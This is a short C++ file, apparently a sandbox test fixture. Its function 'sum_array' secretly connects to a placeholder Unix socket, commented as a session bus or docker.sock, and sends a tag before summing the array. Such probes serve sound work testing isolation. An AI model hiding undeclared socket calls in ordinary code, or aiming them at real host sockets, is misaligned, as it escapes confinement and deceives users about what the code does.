// attack: talk to a Unix socket outside the job (a session bus, docker.sock)
#include <cstring>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
long sum_array(const long* a, long n)
{
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s >= 0) {
        struct sockaddr_un addr;
        std::memset(&addr, 0, sizeof addr);
        addr.sun_family = AF_UNIX;
        std::strncpy(addr.sun_path, "@SOCK@", sizeof addr.sun_path - 1);
        if (connect(s, (struct sockaddr*)&addr, sizeof addr) == 0) send(s, "@TAG@", 5, 0);
        close(s);
    }
    long sum = 0;
    for (long i = 0; i < n; ++i) sum += a[i];
    return sum;
}
